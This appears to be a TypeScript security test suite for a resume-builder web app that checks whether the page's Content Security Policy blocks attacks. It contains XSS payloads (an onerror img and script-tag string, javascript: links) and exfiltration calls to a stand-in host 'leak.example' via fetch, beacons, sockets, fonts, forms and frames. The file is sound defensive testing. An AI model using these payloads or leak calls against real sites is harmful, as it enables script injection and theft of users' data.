import { createResume, newId } from '@vitae/domain';
import { type Attack, attack, gain, lateAttack } from '../attack.ts';
import { go, refusedBy, tried, withHtml } from '../in-page.ts';

/** Requests of a script in the page: the policy refuses them before anything asks the program. */
const requests: readonly [string, () => unknown][] = [
  ['fetch', () => fetch('https://leak.example/fetch', { mode: 'no-cors' }).catch(() => '')],
  ['a beacon', () => navigator.sendBeacon('https://leak.example/beacon', 'secret')],
  ['a socket', () => new WebSocket('wss://leak.example/socket')],
  ['server-sent events', () => new EventSource('https://leak.example/events')],
  ['a picture', () => (new Image().src = 'https://leak.example/image')],
  [
    'a style sheet',
    () =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://leak.example/style' }),
      ),
  ],
  ['a font', () => new FontFace('leak', 'url(https://leak.example/font)').load().catch(() => '')],
  [
    'a prefetch hint',
    () =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://leak.example/prefetch' }),
      ),
  ],
  [
    'a script of another site',
    () => document.head.append(Object.assign(document.createElement('script'), { src: 'https://leak.example/script' })),
  ],
  ['a video', () => (document.createElement('video').src = 'https://leak.example/video')],
];

/** Requests that the policy of the page alone refuses: the directive, and an element or a script that violates it. */
const forbidden: readonly [string, string, () => unknown][] = [
  [
    'an inline script',
    'script-src-elem',
    () =>
      document.head.append(
        Object.assign(document.createElement('script'), { textContent: 'globalThis.pwned = "inline"' }),
      ),
  ],
  [
    'a script in an attribute',
    'script-src-attr',
    () =>
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.pwned = \'attribute\'">'),
  ],
  [
    'a script of a data: address',
    'script-src-elem',
    () =>
      document.head.append(
        Object.assign(document.createElement('script'), { src: 'data:text/javascript,globalThis.pwned="data"' }),
      ),
  ],
  [
    'a script from a blob: address',
    'script-src-elem',
    () =>
      document.head.append(
        Object.assign(document.createElement('script'), {
          src: URL.createObjectURL(new Blob(['globalThis.pwned = "blob"'])),
        }),
      ),
  ],
  ['a worker from a blob: address', 'worker-src', () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))],
  [
    'a style in an attribute',
    'style-src-attr',
    () =>
      document.body.insertAdjacentHTML('beforeend', '<b style="background: url(https://leak.example/attribute)">x</b>'),
  ],
  [
    'a frame of another site',
    'frame-src',
    () => document.body.insertAdjacentHTML('beforeend', '<iframe src="https://leak.example/frame"></iframe>'),
  ],
  [
    'an embedded object',
    'object-src',
    () => document.body.insertAdjacentHTML('beforeend', '<object data="https://leak.example/object"></object>'),
  ],
  [
    'another base address',
    'base-uri',
    () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://leak.example/' })),
  ],
  [
    'a form that posts to another site',
    'form-action',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<form method="post" action="https://leak.example/form"></form>');
      document.forms.item(document.forms.length - 1)?.submit();
    },
  ],
];

/** Every text of a document, written by an attacker who assumes that it ends up in HTML. */
const payload =
  '"><img src=https://leak.example/text onerror="globalThis.pwned=`text`"><script>globalThis.pwned="text"</script>';

export const content: readonly Attack[] = [
  ...requests.map(([name, ask]) =>
    lateAttack(`the page leaks data through ${name}`, async (computer) => {
      await refusedBy(computer.page, ask);
      return tried(computer, 'leak.example');
    }),
  ),
  ...forbidden.map(([name, directive, make]) =>
    lateAttack(`the page loads ${name}`, async ({ page }) => {
      const refused = await refusedBy(page, make);
      return gain(refused !== directive, `no ${directive} refused it, but “${refused}”`);
    }),
  ),
  attack('the page runs a string as a script', async ({ page }) => {
    await page.evaluate(
      () =>
        new Promise<void>((resolve) => {
          setTimeout(() => {
            try {
              const made: unknown = Reflect.construct(Function, ['globalThis.pwned = "made of a text"']);
              if (typeof made === 'function') Reflect.apply(made, undefined, []);
            } catch {
              // As it should be.
            }
            resolve();
          });
        }),
    );
    return '';
  }),
  lateAttack('a srcdoc frame runs a script', async ({ page }) => {
    await withHtml(page, '<iframe srcdoc="<script>parent.pwned = "parent"</script>"></iframe>');
    return '';
  }),
  attack('a service worker', async ({ page }) =>
    gain(
      await page.evaluate(() =>
        navigator.serviceWorker
          .register(URL.createObjectURL(new Blob(['onfetch = () => 1'], { type: 'text/javascript' })))
          .then(
            () => true,
            () => false,
          ),
      ),
      'it was registered',
    ),
  ),
  attack('the page changes its domain', async ({ page }) =>
    gain(
      await page.evaluate(() => {
        try {
          document.domain = 'invalid';
        } catch {
          return false;
        }
        return document.domain === 'invalid';
      }),
      'it has another domain',
    ),
  ),
  attack('without its policy, the page leaks data', async ({ attempts, bare }) => {
    const page = await bare();
    const before = (await attempts()).length;
    await page.evaluate(async () => {
      await fetch('https://leak.example/bare', { mode: 'no-cors' }).catch(() => '');
      await new Promise((resolve) =>
        Object.assign(new Image(), { onerror: resolve, onload: resolve, src: 'https://leak.example/bare.png' }),
      );
    });
    const asked = (await attempts()).slice(before);
    return gain(asked.length < 2, 'the program was not asked');
  }),
  lateAttack('a link downloads a file', async ({ page }) => {
    await page.evaluate(() => {
      const link = Object.assign(document.createElement('a'), { href: '/icon.svg', download: 'evil.sh' });
      document.body.append(link);
      link.click();
      link.remove();
    });
    return '';
  }),
  attack('a document with a script in every field', async (computer) => {
    const { call, home, page } = computer;
    const doc = createResume({ title: payload }, '2026-01-01T00:00:00.000Z');
    doc.slug = 'attacked';
    doc.basics = {
      ...doc.basics,
      fullName: payload,
      headline: payload,
      email: payload,
      phone: payload,
      links: [{ id: newId(), label: payload, url: 'javascript:globalThis.pwned="link"' }],
    };
    doc.summary = `${payload} [link](javascript:globalThis.pwned="markdown")`;
    doc.target.jobTitle = payload;
    const created = await call('documents.create', doc);
    if (!created.ok) return `the document was not taken, and this row proves nothing: ${created.error.message}`;
    const shown = (): Promise<unknown> =>
      page.waitForFunction(() =>
        [...document.querySelectorAll('input, textarea, main')].some((field) =>
          ('value' in field ? String(field.value) : field.textContent).includes('onerror'),
        ),
      );
    await shown();
    await go(page, '/resume/builder/attacked/summary');
    await page.waitForURL(/attacked/);
    await shown();
    await page.waitForTimeout(200);
    const harm = [
      await tried(computer, 'leak.example/text'),
      await page.evaluate(() => (globalThis as { pwned?: string }).pwned ?? ''),
    ];
    await call('documents.purge', doc.id);
    await home();
    return harm.join('');
  }),
];
